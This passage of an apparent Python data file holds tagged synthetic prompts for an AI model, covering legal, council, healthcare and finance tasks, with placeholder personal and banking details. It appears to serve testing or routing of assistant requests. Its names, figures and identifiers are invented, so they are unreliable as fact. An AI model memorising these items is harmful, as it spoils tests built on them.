"Bill was double the estimate and nobody explained why."
"Fine, I suppose. Took ages to get replies."

@ extract l l i
@ !hn
Pull out the invoice numbers and amounts outstanding from this ledger so credit control can chase: INV-HP-23-10442 £4,200.00 (90 days); INV-HP-24-00112 £18,750.00 (60 days); INV-HP-24-00391 £960.00 (30 days); credit note CN-HP-24-0021 -£500.00.

@ qa l h p
Explain the "but for" test and the "material contribution" test for causation in negligence, with one example each.

@ code l h i code
Write a small Python tool that compares two versions of a contract (two .docx files), extracts the text with python-docx, and outputs a redline-style HTML diff with clause numbers kept. Show usage.

@ classify l l c
Is this email privileged? Yes/no and why in one sentence: "From the client's CFO to our associate: Here are the board minutes you asked for, can you tell us whether the dividend in March was lawful?"

@ draft l m c :: Draft the cover email to the client
@ summarize l m c :: a bullet summary of the changes we made to their supplier terms
Draft the cover email to the client and a bullet summary of the changes we made to their supplier terms: capped liability at 12 months' fees, added a data processing schedule, removed the unilateral price change right, changed governing law from New York to England.

@ reasoning l m p
A shop refuses to refund a faulty £900 sofa I bought 5 weeks ago and says I can only have a repair. Are they right under the Consumer Rights Act?

@ chat g l p
good morning! coffee machine on floor 3 is fixed btw, in case anyone cares as much as I do

@ extract l h r
From this probate file note, list each beneficiary with their share and payment details:

Estate of the late [[P:Harold Finch]]. Residuary estate £412,000 split: 50% to [[P:Margaret Finch]] (widow), IBAN {IB5}; 25% each to [[P:Daniel Finch]] and [[P:Eleanor Finch-Hart]]. Daniel's account: {IB6}. Eleanor to provide details; email [[E:eleanor.fh@gmail.com]].

@ math l h c :: calculate each beneficiary's share after the £18,400 of estate expenses
@ draft l h c :: draft the estate accounts summary page
For the Finch estate (residue £412,000, 50% widow, 25% each to two children), calculate each beneficiary's share after the £18,400 of estate expenses and draft the estate accounts summary page.

@ summarize l m p
Boil down the key points of the Renters' Rights Bill for landlords into a half-page briefing.

@ qa l m i retr
What's our firm's policy on accepting cash from clients — is the limit still £500?

@ classify l m c
Which of these tasks can a trainee do and which need a partner sign-off under our supervision rules? (a) issuing a claim form (b) sending a letter of claim (c) advising on a settlement offer of £2M (d) preparing a bundle index

@ translate l l p
What's "without prejudice save as to costs" in Spanish? Just the phrase.

@ draft l h c
Draft a settlement agreement clause for the payment of £27,500 as compensation for loss of office, paid within 14 days of signature, with the first £30,000 tax-free treatment noted and a clawback if the employee breaches confidentiality.

@ reasoning l h c :: Can the landlord forfeit the lease for this breach
@ draft l h c :: what would you advise the tenant to do this week
Tenant has sublet part of the premises without consent; lease has an absolute prohibition on subletting; landlord accepted the last quarter's rent after learning about it. Can the landlord forfeit the lease for this breach, and what would you advise the tenant to do this week?

@ extract l l i
@ !hn
Pull out the Land Registry title numbers and the completion dates: title GR412233 completed 02/08/2024; title BL118702 completed 16/08/2024; title WT302911 pending (SDLT ref 883104772MA).

@ sentiment l m c
Is the judge's tone in this extract critical of the claimant's solicitors? "It is regrettable that the bundle ran to 4,200 pages, of which fewer than 300 were referred to at the hearing. The court's patience is not inexhaustible."

@ qa l l p
Do I need a solicitor to make a will in Scotland?

@ code l m i
Our matter management exports dates as "20241108T160000Z". What's the Excel formula to turn that into a normal date-time?

@ summarize l h c
Summarise this 6-page lease into a one-page lease report for the buyer: parties, term, rent and reviews, repairing obligations, alienation, break clauses, service charge. (Pasting the key clauses.)

Term: 15 years from 25 March 2020. Rent: £86,000 p.a., upwards-only open market review every 5 years. Repair: full repairing and insuring. Alienation: assignment of whole permitted with consent not to be unreasonably withheld; no subletting of part. Break: tenant only, 25 March 2030 on 9 months' notice, conditional on vacant possession and no arrears. Service charge: capped at £9,500 p.a. index-linked. User: Class E(g)(i) offices.

@ draft g m i
Write a team email reminding fee earners that time must be recorded daily and that unrecorded time older than 7 days will not be billable from 1 December. Firm tone, short.

@ math l m c calc
Costs budget: 142 hours of partner time at £450, 310 hours of associate time at £285, disbursements £18,600, VAT 20% on fees only. What's the total?

@ reasoning l h i
If we adopt fixed fees for straightforward residential conveyancing at £1,150 + VAT, and the average matter currently takes 9.5 hours at a blended £165/hour, are we losing money? What about the 20% of matters that go wrong and take 18 hours?

@ creative l m p
Write a 100-word story for the firm's newsletter about the oldest deed in our archive, dated 1742, told from the deed's point of view.

@ extract l m r
Pull the identifiers out of this KYC pack for the conflicts check: client name, NRIC, email, phone, company.

Client: [[P:Tan Mei Ling]]
NRIC: {NR3}
Email: [[E:meiling.tan@sgholdings.com.sg]]
Tel: [[PH:+65 6734 2281]]
Company: SG Holdings Pte Ltd (UEN 201912345K)

@ classify l l p
Is this a civil or criminal matter? "My neighbour's tree fell on my car and he won't pay for the repair."

@ summarize l h c :: Write a summary of the tribunal judgment for the client
@ reasoning l h c :: advise whether an appeal to the EAT has reasonable prospects
@ math l h c :: work out the total award including the uplift
Write a summary of the tribunal judgment for the client, advise whether an appeal to the EAT has reasonable prospects, and work out the total award including the uplift. Basic award £6,804; compensatory award £21,350; tribunal applied a 15% ACAS uplift to the compensatory award only; 25% contributory fault reduction to both. Grounds found: unfair dismissal, no finding on discrimination.

@ qa l m p web
Has the Employment Rights Bill been passed yet? What's the latest on day-one unfair dismissal rights?

@ summarize l m c :: Summarise the call notes
@ extract l m c :: pull out the action items with owners and dates
Summarise the call notes and pull out the action items with owners and dates:

Call with client 11/10. Client confirmed the supplier has missed 3 delivery deadlines (Aug, Sep, Oct). Wants to terminate but keep goodwill. RK to review termination clause and send advice by 16/10. Client to send all delivery notes by 14/10. Consider without-prejudice call with supplier's MD week of 21/10 (RK to set up). Budget estimate to client by 18/10 (AM).

@ translate l m c
Translate this into Italian for the client in Milan: "We have received the signed share purchase agreement. Completion is scheduled for 30 November, subject to the conditions in clause 4. Please send the board resolution approving the transfer by 22 November."

@ sentiment l l p
Is this Trustpilot review of the firm positive? "Sorted our house purchase in 6 weeks, always picked up the phone."

@ extract l l i
@ !hn
What version of the standard terms is this, and which clause numbers were amended? "Harrow & Pell Standard Terms of Business v7.3.2 (rev. 2024-05-01): amended clauses 4.2.1, 9.7 and 14.3.2; previous version v7.2.9."

@ reasoning l m c
The client wants to rely on an exclusion clause in their T&Cs to avoid a £38k claim from a business customer. The T&Cs were on the website but never sent with the order confirmation. Were they incorporated? What's the strongest argument each way?

@ draft g l i
Draft an out-of-office: I'm at the Court of Appeal all day Thursday, checking email in the evening; urgent matters to my secretary on extension 4418.

@ classify l m c
Sort these disclosure documents into relevant / not relevant / privileged for the contract dispute about late delivery of turbines:
1. Email from project manager to supplier chasing turbine delivery dates
2. Internal memo from in-house lawyer advising on termination rights
3. Christmas party invitation
4. Board minutes approving the turbine contract

@ math l m p calc
A tenancy deposit of £1,950 wasn't protected. The court can award between 1 and 3 times the deposit. What's the range?

@ extract l m r :: extract the debtor details
@ draft l m r :: draft the statutory demand
From the note below, extract the debtor details and then draft the statutory demand.

Debtor: [[P:Craig Whitmore]], sole trader t/a Whitmore Plumbing, 14 Ash Close, Gloucester. Email [[E:craig@whitmoreplumbing.co.uk]]. Mobile [[PH:07700 900 741]]. Debt: £11,480 for unpaid materials, invoices dated June-August 2024, no dispute raised.

@ qa l h p
How does the doctrine of proprietary estoppel work, and what did the Supreme Court say in Guest v Guest about the remedy?

@ reasoning l m i
Should we accept a client who wants us to act on a £4M commercial property purchase funded by a gift from a relative in the UAE? What AML red flags should we work through before saying yes?

@ chat g l p
thanks, that's a lifesaver for the 5pm deadline
"""

# ---------------------------------------------------------------- public-sector agency (Marlow County Council)
PUBLIC = r"""
@ summarize g m i :: Summarise the consultation responses below in 5 bullets
@ sentiment g m i :: tell me whether residents are broadly for or against the low-traffic scheme
Summarise the consultation responses below in 5 bullets and tell me whether residents are broadly for or against the low-traffic scheme.

"Finally my kids can cycle to school safely."
"Deliveries to my shop now take a 15-minute detour. Customers have stopped coming."
"Air feels cleaner on Elm Road, but Station Road is gridlocked every evening."
"Nobody asked the disabled residents who rely on cars."
"Love it. Please extend it to the north side."

@ draft g m i
Write a 150-word press release announcing that Riverside Library reopens on Saturday 9 November after its £1.2M refurbishment, with a new children's area, 24 study desks and Sunday opening hours. Include a quote from the cabinet member for culture.

@ qa g l p
What bins go out this week in the Hartley ward? It's the week after the bank holiday.

@ classify g l i
Route each of these contact-centre emails to the right team (waste, highways, council tax, housing, parking):
1. "there's a pothole the size of a bath on Mill Lane"
2. "my direct debit for band C went out twice"
3. "the recycling lorry skipped our street again"
4. "mould in the bathroom of our council flat, reported twice"
5. "got a ticket while loading outside my own house"

@ extract g m c
Pull out the name, address, reference and the actual request from this FOI email:

From: [[P:Gareth Pryce]] <[[E:g.pryce.journalist@protonmail.com]]>
Subject: FOI request ref FOI-2024-0871
Please provide, for each of the last three financial years, the total spent by Marlow County Council on agency social workers, and the number of agency social workers engaged at 31 March. I'd prefer the answer as a spreadsheet. Postal address: 7 Canal Street, Marlow.

@ qa l m p :: Do we have to answer this FOI within 20 working days even though it's over the cost limit
@ draft l m i :: draft a refusal notice citing section 12
Do we have to answer this FOI within 20 working days even though it's over the cost limit? If not, draft a refusal notice citing section 12 and offering to help them narrow it down. The request is for every email sent by the planning department mentioning "Greenfield Farm" since 2015.

@ math f m i calc
Council tax band D is £2,143.60 for 2024/25. We're proposing a 4.99% rise. What's the new band D figure, and how much extra per month for a band D household on 10 instalments?

@ translate g l p
Can you translate our winter fuel support leaflet intro into Welsh? "If you're struggling to heat your home this winter, you may be able to get a one-off payment of up to £300. Apply online or call our helpline."

@ chat g l p
hi there, just testing the new assistant before we roll it out to the contact centre. how are you doing today?

@ reasoning g h i
We have £600k left in the highways budget for the year. Option A: resurface 3.2 km of the B4421 (heavily used, 40 complaints). Option B: patch 900 potholes across rural roads (high injury claims, £180k paid out last year). Option C: split 50/50. Which would you choose and why? Think about claims risk, public perception and whole-life cost.

@ draft g m c :: Write a response to Councillor [[P:Ashby]]'s complaint about the state of the bus shelters
@ extract g m c :: list the shelter locations he mentions
@ math g m c :: estimate the repair cost at £1,850 per shelter
Write a response to Councillor [[P:Ashby]]'s complaint about the state of the bus shelters, list the shelter locations he mentions, and estimate the repair cost at £1,850 per shelter.

"I have received numerous complaints about smashed glass at the shelters on Queen Street (two), outside the Co-op on Bridge Road, at Hartley Green and opposite St Mary's school. This is a disgrace. — Cllr [[P:Peter Ashby]]"

@ code g m i code
I've got a CSV of 14,000 housing repair jobs (job_id, property_id, category, reported_date, completed_date). Write pandas code to calculate the median days to complete for each category and the % completed within the 28-day target.


@ extract g l i :: list the planning application numbers
@ classify g l i :: say which ones are householder applications
@ !hn
From this weekly list, list the planning application numbers and say which ones are householder applications:
24/01882/FUL two-storey rear extension, 12 Oak Rise; 24/01890/OUT 45 dwellings, land off Mill Lane; 24/01893/HOU loft conversion with dormer, 3 Cedar Close; 24/01901/LBC replacement windows, The Old Rectory; 24/01904/HOU garden room, 88 Park Avenue.

@ sentiment g l i
Read the comments on our Facebook post about the new parking charges and tell me the overall mood in one word, then the main reason:
"£2 for an hour at the leisure centre? Pathetic."
"Fair enough if the money goes into the pool"
"That's it, I'm going to the gym in the next town"
"Council cash grab as usual"

@ draft g m i :: Draft the agenda for the parish liaison meeting
@ summarize g m i :: a short summary of last time's actions to go with it
@ !hn
Draft the agenda for the parish liaison meeting on 21 November (7pm, Hartley Village Hall) and a short summary of last time's actions to go with it. Last time: (1) highways to survey the A389 junction by 30/09 — done; (2) clerk to send precept figures by 15/10 — done, £48,250 for 2025/26; (3) street lighting LED swap, phase 2 delayed to Q1; (4) ticket CRM-552310 re flooding on Brook Street still open.

@ creative g m p
Write a short poem for the plaque on the new memorial bench in Victoria Park honouring the town's NHS and care workers during the pandemic. 6-8 lines, dignified.

@ qa f m p
Who is eligible for the single person council tax discount and how much is it?

@ classify f l i
@ !hn
Sort these supplier invoices into capital or revenue spend: INV-77120 replacement roof, Hartley Primary, £184,000; INV-77134 annual software licence renewal, £22,400; INV-77141 new gritting lorry, £138,500; INV-77150 office cleaning contract Q3, £31,200; INV-77152 consultancy for SEND review, £47,000.

@ translate g m c
Translate this letter into Romanian for the family in temporary accommodation:

Dear Mrs [[P:Ioana Popescu]],
We have found you a two-bedroom flat at 4 Willow Court. The viewing is on Tuesday 12 November at 11am. Please bring photo ID and proof of income. If you cannot attend, call [[PH:01632 960 221]] before Monday.

@ reasoning g m p
Why do councils in England keep going bankrupt (section 114 notices)? Explain the main structural causes, not just one council's story.

@ extract g h r :: extract each claimant's details into the benefits template
@ classify g h r :: flag any application where the bank details look incomplete
Please extract each claimant's details into the benefits template (name, NI-style ref, email, bank) and flag any application where the bank details look incomplete:

App 1: [[P:Kofi Mensah]], ref HB-448120, [[E:kofi.mensah@yahoo.co.uk]], IBAN {IB16}
App 2: [[P:Aleksandra Nowak]], ref HB-448133, [[E:ola.nowak88@gmail.com]], IBAN {IB11}
App 3: [[P:Brian Doherty]], ref HB-448140, [[E:bdoherty@hotmail.com]], bank: "will send later"

@ code g h i code
We want a small Flask endpoint that takes a UK postcode, looks up the council ward from our wards.geojson file (point-in-polygon with shapely), and returns the ward name and the councillors. Write it with a test.

@ math g m i calc
Library visits: 2022 — 184,300; 2023 — 201,750; 2024 forecast — 219,000. What's the year-on-year % growth each year and the compound annual growth rate?

@ draft g l i
Draft a tweet (under 280 chars) telling residents the household waste recycling centre at Fenwick Road is closed Monday for resurfacing and the nearest alternative is Hartley Lane.

@ qa g l p web
When's the deadline to register to vote in the next general election?

@ summarize g h i
Turn this cabinet report into a half-page summary for residents — no jargon:

"The Council's Medium Term Financial Strategy identifies a cumulative funding gap of £23.7m over the period 2025/26 to 2027/28, driven principally by demand-led pressures in adult social care (+£9.1m) and children's placements (+£7.4m), home-to-school transport (+£3.2m) and the cessation of one-off grant funding. Savings proposals totalling £14.9m have been identified, including a review of discretionary services, a digital-first customer contact model and rationalisation of the office estate. The remaining gap of £8.8m will require further proposals to be brought forward in February."

@ sentiment g m c :: Score the sentiment of each complaint
@ classify g m c :: put them in the right service category
@ draft g m c :: draft a holding reply I can use for all of them
Score the sentiment of each complaint, put them in the right service category, and draft a holding reply I can use for all of them:
1. "Bins not collected for 3 weeks. Absolutely disgusting, we have rats." — Mr [[P:Hollis]]
2. "The new app for reporting fly-tipping is great, sorted in 2 days."
3. "I've asked 4 times for a disabled parking bay and nobody replies."

@ chat g l p
that's brilliant, you've saved me an afternoon of spreadsheet hell 😄

@ extract g l i
@ !hn
List the ticket numbers, dates and amounts from this parking appeals batch — no names, they've been stripped: PCN MA40018872 issued 03/10/2024 £70; PCN MA40018901 issued 04/10/2024 £35 (discounted); PCN MA40019120 issued 07/10/2024 £110 (charge certificate).

@ draft l h c
Write a formal response to a Stage 2 complaint from a parent whose child with an EHCP was left without school transport for 3 weeks. The complaint is upheld. Apologise, explain the cause (contractor withdrew at short notice), offer £450 time-and-trouble payment, and tell them about their right to go to the Ombudsman.

@ reasoning f h i :: is it cheaper to keep leasing the 30 pool cars or buy them outright
@ math f h i :: Show the 5-year cost of each option
Fleet question: is it cheaper to keep leasing the 30 pool cars or buy them outright? Lease is £329/month per car including maintenance. Buying is £24,500 each, resale after 5 years around £7,000, maintenance £900/year each. Show the 5-year cost of each option.

@ qa g m i retr
What does our lone working policy say about home visits after 6pm?

@ translate g m p :: translate the notice into Polish
@ translate g m p :: translate the notice into Punjabi
Please translate the notice into Polish and then translate the notice into Punjabi as well — we'll print both on the back: "Road closure: Station Road will be closed from 4 to 8 November for gas main repairs. Diversion via Church Street. Buses 12 and 14 will not stop at Station Road."

@ classify g l p
Is this a parking issue or a highways issue? "cars parked on the pavement on Beech Avenue so I can't get my wheelchair past"

@ extract l m c
Pull the key dates and obligations out of this tenancy clause for our housing officers:

"4.1 The Tenant shall pay the rent weekly in advance on Monday. 4.2 The Tenant shall permit the Landlord access on 24 hours' written notice to carry out annual gas safety checks. 4.3 The Tenant shall not keep any dog without prior written consent. 4.4 The Landlord shall carry out repairs to the structure within 28 days of notification."

@ creative g m p
Come up with a slogan and a 2-line radio script for our "Love Where You Live" anti-littering campaign aimed at teenagers.

@ draft g m i :: Draft the email to staff announcing the office move to Civic House
@ extract g m i :: list the key dates they need to remember
@ !hn
Draft the email to staff announcing the office move to Civic House, and list the key dates they need to remember: packing crates delivered 18/11; IT kit disconnected Friday 22/11 at 3pm; move weekend 23-24/11; first day at Civic House Monday 25/11; old building keys returned by 29/11. Helpdesk ticket category "MOVE-2024" for issues.

@ math g l p calc
If 68% of 41,250 registered voters turned out, how many people voted?

@ qa l m p
What's the difference between a statutory nuisance and a private nuisance, for a noise complaint?

@ code g m i
Why does this Excel formula in the grant tracker return the wrong total when some rows are filtered out? =SUM(F2:F400). What should I use instead?

@ sentiment g l i
Tone check on my draft reply before I send it to a resident — does it sound defensive? "As previously stated, the Council has followed the correct procedure and there is nothing further we can do at this time."

@ summarize g m c :: Summarise the housing officer's case notes
@ reasoning g m c :: say whether the family should be treated as priority need
Summarise the housing officer's case notes and say whether the family should be treated as priority need under the homelessness rules:

[[P:Shauna Kelly]], 24, with two children (3 and 7). Evicted from private rented flat under section 21, eviction date 15/11. Currently staying with her sister in a one-bed flat, sleeping on the floor. Working part-time at a supermarket. Youngest child has asthma. No rent arrears. Contact [[PH:07700 900 532]].

@ draft g l p
Write a 3-sentence notice for the library noticeboard asking for volunteers for the Saturday homework club. Friendly.

@ classify s m i
@ !hn
Which of these IT tickets are security incidents and which are service requests? INC0091122 "suspicious email with attachment reported by 14 staff"; REQ0044810 "new starter laptop for Revenues"; INC0091130 "USB stick found in car park plugged into reception PC"; REQ0044822 "access to shared drive S:\Planning".

@ reasoning s h i
Our council's internet-facing Citrix gateway is on version 13.1-49.15 and the vendor says we need 13.1-51.15 to fix a critical bug that's being exploited. The upgrade needs a 2-hour outage and the revenues team is mid-way through annual billing. Patch tonight or wait until the weekend? Justify.

@ extract s m c
Which IPs in this WAF log are hitting the council tax portal hardest? Give me the top 3 with counts.

[[IP:81.2.69.160]] GET /ctax/login 403
[[IP:81.2.69.160]] GET /ctax/login 403
[[IP:81.2.69.160]] POST /ctax/login 401
[[IP:185.191.171.33]] GET /ctax/balance 200
[[IP:2a02:c7c:3b44:8700::4]] GET /ctax/login 403
[[IP:2a02:c7c:3b44:8700::4]] GET /ctax/login 403
[[IP:81.2.69.160]] GET /ctax/reset 429

@ qa m m p
What's the current advice for the public during a heatwave amber alert — especially for older people living alone?

@ draft m m i :: Draft a leaflet for care homes on preventing norovirus outbreaks
@ translate m m i :: translate the key steps into Nepali
Draft a leaflet for care homes on preventing norovirus outbreaks (one side of A4) and translate the key steps into Nepali — several homes in the district have Nepali-speaking carers.

@ math m m i calc
Flu vaccine uptake among over-65s in the district is 71.4% of 38,900 people. The target is 75%. How many more people need vaccinating?

@ summarize m m i
Summarise the public health annual report's section on childhood obesity in 3 bullets for the health and wellbeing board:
"At reception age, 9.8% of children in the district are obese, compared with 9.2% in England. By Year 6 this rises to 23.1% (England 22.1%). Rates are more than twice as high in the most deprived quintile. The Healthy Schools programme reached 41 of 63 primary schools in 2023/24."

@ extract g l i
@ !hn
Get me the purchase order numbers and delivery dates for the gritting salt: PO 4500219903 — 1,200 tonnes — delivery wk commencing 14/10/2024; PO 4500219947 — 800 tonnes — delivery 04/11/2024; PO 4500220011 — 600 tonnes — on call-off.

@ classify l m c
Is this a valid subject access request under UK GDPR? Yes or no with one reason: "Hi, I'm a resident and I'd like everything you hold about me, including the notes from my social worker. — [[P:Darren Fox]], [[E:darrenfox1982@gmail.com]]"

@ draft l m c :: Draft the SAR acknowledgement letter
@ math l m c :: work out the statutory deadline if we received it on 17 October
Draft the SAR acknowledgement letter and work out the statutory deadline if we received it on 17 October (one calendar month, and the extended deadline if it's complex).

@ code s m i code
Write a PowerShell script that finds all files on the \\fs01\shared drive containing the string "NI number" or "national insurance" and exports path, owner and last modified date to CSV, so we can clean up personal data before the audit.

@ creative g l p
Write a haiku for the council's Christmas card. Something about the gritters going out at 4am.

@ qa f m p
What's the difference between revenue and capital spending for a local council, and why can't they use capital money to plug a revenue gap?

@ chat g l p
ugh, third meeting today that could have been an email

@ reasoning g m i
The contact centre's average wait time jumped from 4 to 17 minutes since we closed the face-to-face desk. Calls went from 9,000 to 12,500 a month. Is the closure the cause, or could something else explain it? What data would settle it?

@ extract g m c :: extract the names and contact details of everyone who signed with an email
@ math g m c :: count how many of the signatories live in Hartley ward
From the petition extract below, extract the names and contact details of everyone who signed with an email, and count how many of the signatories live in Hartley ward.

1. [[P:Joan Whitaker]], Hartley, [[E:joan.whitaker@btinternet.com]]
2. [[P:Sam Osei]], Fenwick, no email
3. [[P:Ruth Levinson]], Hartley, [[E:ruthlev@outlook.com]]
4. [[P:Imran Qureshi]], Hartley, [[PH:07700 900 118]]
5. [[P:Beth Carroll]], Marlow Central, [[E:beth.carroll@gmail.com]]
"""

# ---------------------------------------------------------------- mixed: rambling, multi-ask and look-alike requests
MIXED = r"""
@ summarize f m c :: can you summarise what's going on with my account
@ draft f m c :: write the complaint for me
@ translate f m c :: put it in Portuguese so my dad can read it too
ok so this is a long story. I opened the account in March, moved my salary over in April, everything was fine until last week when I tried to pay my landlord and the app said "payment under review". Then my card stopped working at the supermarket, I had to leave my shopping. Support chat says they can't tell me anything. I've attached the messages. Basically can you summarise what's going on with my account from the messages below, then write the complaint for me, and put it in Portuguese so my dad can read it too?

[Support 14:02] We're reviewing some recent activity on your account. This usually takes up to 5 working days.
[Support 14:05] For security reasons we can't share more details.
[Me 14:06] I need to pay my rent of £1,150 by Friday.
[Support 14:20] We understand. Your case ref is QP-REV-228190.

@ chat g l p
hello!! is this the right place to ask stuff or do I need to log a ticket somewhere

@ creative g m p
We're doing a charity bake-off between the legal, finance and security teams. Write a 200-word mock-serious "match report" of the final, where the security team's cake was "encrypted" (nobody could cut it).

@ qa s m p :: what does it actually mean when my bank says my card was "compromised at a merchant"
@ reasoning s m p :: should I be worried about the other cards in my wallet
So I got a text saying my card was compromised and they've sent a new one. No money went missing. what does it actually mean when my bank says my card was "compromised at a merchant", and should I be worried about the other cards in my wallet?

@ extract f l i
@ !hn
Quick one — which of these is our order number and which is the courier's tracking number? "Order #70019283 shipped via DPD, tracking 15502734881299, estimated delivery 12/09/2024, parcel weight 2.4 kg, invoice INV-2024-33107."

@ classify f m r :: Check if any of these cards on file are expired
@ extract f m r :: tell me the last four digits of each
@ draft f m r :: write a short note asking the customer to update them
Check if any of these cards on file are expired as of today (October 2024), tell me the last four digits of each, and write a short note asking the customer to update them.

Card 1: {CC2}, exp 09/24, name on card [[P:HANNAH SCHULZ]]
Card 2: {CC3}, exp 03/27
Card 3: {CC4}, exp 11/24

@ chat g l p
you're way more patient than my manager, just saying

@ math g l p calc
What's 17.5% of 2,340 and then take away 50?

@ creative g l p
Write a short motivational message for the hospital cleaning team on International Housekeeping Week. They never get thanked. 80 words.

@ reasoning m h c :: tell me which of the two discharge plans is safer
@ draft m h c :: write the note to the family explaining the decision
Two options for Mr [[P:Alfred Bennett]], 91, after a fall with no fracture. Plan A: home tomorrow with a twice-daily care package (earliest start in 6 days, daughter can cover until then but works nights). Plan B: stay 6 more days on the ward until the package starts. He's keen to go home, mildly confused at night, had hospital-acquired delirium last admission. Please tell me which of the two discharge plans is safer, then write the note to the family explaining the decision.

@ extract s l i
@ !hn
From the patch bulletin, which builds fix the bug? "Fixed in 4.2.0.17 and 4.1.9.203. Not fixed in 4.2.0.11. Release date 2024-08-27. Bug ID SEC-10482. KB article KB5031455."

@ sentiment f m c :: what's the overall sentiment in the Trustpilot reviews
@ summarize f m c :: summarise the top 3 praises and top 3 complaints
@ draft f m c :: draft a public reply to the worst one
Looking at these reviews, what's the overall sentiment in the Trustpilot reviews, summarise the top 3 praises and top 3 complaints, and draft a public reply to the worst one.

★★★★★ "Instant transfers abroad, saved me a fortune on fees"
★☆☆☆☆ "Account frozen for 2 weeks, no explanation, rent late, disgusting"
★★★★☆ "Great app, wish they had joint accounts"
★★☆☆☆ "Customer service is a bot that loops"
★★★★★ "Budgeting pots changed my life honestly"
★☆☆☆☆ "They closed my account and kept my money for 60 days"

@ translate m l p
"Please take off your jewellery and put on the gown, opening at the back" — Turkish and Farsi please, for the X-ray changing rooms.

@ code s m i code
Can you fix this Python so it stops crashing on IPv6 addresses? It's meant to anonymise client IPs in our logs by zeroing the last octet.

def anonymise(ip):
    parts = ip.split(".")
    parts[-1] = "0"
    return ".".join(parts)

@ classify g l p
Quick sort: which of these are questions for the council, which for the NHS, and which for the police? "my neighbour's dog barks all night", "need a new GP", "someone stole my bike", "bin not emptied", "my car was broken into"

@ draft l m c :: Write a polite chaser to opposing counsel about the missing disclosure
@ math l m c :: count how many days late they are if it was due 4 October
Write a polite chaser to opposing counsel about the missing disclosure and count how many days late they are if it was due 4 October and today is 23 October.

@ extract f m r
Someone pasted this into a support chat — extract anything that shouldn't be there (card numbers, bank details, IDs) so we can purge it from the transcript:
"hi my card is {CC8} and my NRIC is {NR4}, please refund to my bank {IB7}, my number is [[PH:+65 8412 3390]]"

@ qa g l p
how many working days are there in November 2024 in England?

@ reasoning g m p
If a train leaves at 07:42 and arrives at 10:15, and the connection I need leaves at 10:27 from a platform a 9-minute walk away, what's my margin if the first train is 5% late on journey time?

@ classify s l i
@ !hn
Are these strings SHA-1 hashes, UUIDs or build numbers? "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3", "3f6c2b1e-9d4a-4b8e-a2f1-7c9e0d5b6a12", "build 7.3.1.204", "20240917.4"

@ summarize m m c :: Can you summarise the MDT notes
@ extract m m c :: list every investigation that's still outstanding
@ classify m m c :: say if the case is routine or urgent for the next meeting
Can you summarise the MDT notes, list every investigation that's still outstanding, and say if the case is routine or urgent for the next meeting?

Lung MDT 17/10. 68M ex-smoker, 3.1 cm RUL spiculated nodule. PET: avid SUV 8.2, no nodal uptake. EBUS pending (booked 24/10). PFTs: FEV1 1.9 L (62%), DLCO awaited. Plan: if EBUS negative, surgical opinion for lobectomy; if PFTs borderline, SABR discussion. Brain MRI not yet requested.

@ creative l m p
Write a short satirical "terms and conditions" for borrowing the office stapler, in proper legalese. 120 words, for the Christmas newsletter.

@ chat g l p
can you remember what we talked about yesterday or do I have to start over

@ draft s m c :: Write a short Teams message to the client
@ reasoning s m c :: explain whether we should pause the test
Write a short Teams message to the client and explain whether we should pause the test: our scan just took their legacy print server offline ([[IP:10.12.8.40]]), they say it's not business critical but it's the one payroll prints on Friday.

@ extract g l i
@ !hn
Find the serial numbers in this asset register extract and tell me which laptops are past 4 years old: SN 5CG1372Q8X bought 03/2019; SN PF3BNX12 bought 11/2021; SN C02DK1ZHMD6R bought 06/2020; SN 9XK22F3 bought 01/2018. Current date 2024-10-01.

@ math f m i calc
If our hospital's energy bill is £4.2M and the new LED retrofit cuts lighting use (27% of the bill) by 58%, how much do we save per year and what's the payback on a £1.35M project?

@ translate l m c :: translate the witness's statement from Polish
@ summarize l m c :: summarise the three points that matter for our case
Please translate the witness's statement from Polish and then summarise the three points that matter for our case (the employer says he was never told about the overtime policy).

"Pracuję w magazynie od 2019 roku. Nikt nigdy nie powiedział mi o zasadach dotyczących nadgodzin. Kierownik zmiany mówił, że jeśli nie zostanę po godzinach, stracę pracę. Nie dostałem żadnych dokumentów na piśmie."

@ sentiment m l i
This is feedback from a patient focus group. Is it mostly positive? "The new booking app is easier than phoning at 8am, but my mum can't use it and feels left out."

@ qa f m p
What is a PEP in anti-money laundering, and does being one mean you can't open a bank account?

@ code f m i code
Write a Python function to mask all but the last 4 digits of any 13-19 digit number in a string, allowing spaces or dashes between groups. Include a couple of doctest examples.

@ classify f m i
@ !hn
Which of these 16-digit numbers are valid card numbers? {XCC6}, {XCC7}, {XCC8}. Show the Luhn check for each.

@ draft g l i
Short email to the facilities team: the lift in block C has been out of order since Monday, there's a wheelchair user on the 3rd floor, and I'd like a date for the fix. Polite but pointed.

@ extract l m r :: extract the beneficiary's name and account details
@ classify l m r :: flag whether the payment instruction looks like it could be fraud
This came in by email 20 minutes before completion. Please extract the beneficiary's name and account details and flag whether the payment instruction looks like it could be fraud.

"Hi, due to an audit on our usual account please send the completion monies of £412,000 to our new client account: Morrow & Price Client A/C, IBAN {IB8}. Please do not call the office as we are working remotely. Regards, [[P:Anjali Mehta]]"

@ reasoning g h p
Two job offers: one in the public sector at £41k with a 23% employer pension contribution and 30 days leave, one at a fintech at £52k with 5% pension match, 25 days leave and share options. Which is worth more over 5 years? Reason it through with assumptions.

@ chat g l p
good night, I'm logging off, thanks for all the help today

@ summarize s h c :: summarise the red team's findings
@ classify s h c :: rank them by risk
@ draft s h c :: write the three-line version for the CEO
Please summarise the red team's findings, rank them by risk, and write the three-line version for the CEO:
- Tailgated into HQ reception behind a courier, reached the 3rd floor unchallenged
- Phished 11 of 60 staff with a "salary review" lure; 4 entered credentials; MFA push approved by 1
- Found admin credentials for the badge system in a SharePoint folder open to all staff
- Cloned an employee's door badge from 30 cm away in the canteen queue

@ qa m l p
Do I need to fast before a cholesterol blood test?

@ extract f l i
@ !hn
Pull the IBAN-looking string and tell me if the checksum is right: "Please pay the deposit to {XIB1} before 31/10, amount EUR 2,500.00, ref BOOKING-88120."

@ math g m p calc
A rectangular car park is 84 m by 46 m. Each space is 2.4 m by 4.8 m and a third of the area goes to driving lanes. Roughly how many spaces fit?

@ classify m m c :: triage these GP messages into urgent, routine or admin
@ draft m m c :: draft a reply for the admin ones
Please triage these GP messages into urgent, routine or admin and draft a reply for the admin ones.
1. "Can I change my repeat prescription collection to the Boots on High St?"
2. "My chest has been tight since this morning and my left arm feels heavy"
3. "Need a fit note extension, back still bad"
4. "What time do you open on Saturday?"

@ creative s m p
Write a short horror story (150 words) about a sysadmin who discovers that the password on the production database is still "admin". Dark humour is fine.

@ translate g l p
How do you say "the meeting has been moved to Thursday at 3" in Japanese? Polite business form.

@ reasoning l h p
